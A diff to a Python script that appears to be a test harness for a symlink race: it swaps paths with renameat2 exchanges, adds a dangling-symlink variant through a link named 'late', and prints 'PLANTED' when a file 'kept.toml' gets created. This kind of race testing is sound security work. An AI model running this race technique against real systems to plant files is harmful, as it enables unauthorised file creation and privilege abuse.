@@ -28,6 +28,8 @@ def flip():
         shared[128:128 + len(granted)] = granted
         libc.syscall(RENAMEAT2, -100, b'way', -100, b'byway', 2)
         libc.syscall(RENAMEAT2, -100, b'end', -100, b'wrong-end', 2)
+        libc.symlink(b'kept.toml', b'late')
+        libc.unlink(b'late')
     os._exit(0)
 
 
@@ -68,6 +70,10 @@ for _ in range(tries):
     number = libc.open(ctypes.c_void_p(address + 128), os.O_CREAT | os.O_WRONLY, 0o600)
     if made_one(number):
         os.close(number)
+    number = libc.open(b'late', os.O_CREAT | os.O_WRONLY, 0o600)
+    if made_one(number):
+        os.close(number)
+        libc.unlink(b'late')
     libc.rename(b'other', ctypes.c_void_p(address + 128))
     if os.path.lexists('kept.toml') or not os.path.lexists('other') or os.listdir('.kept'):
         print('PLANTED')
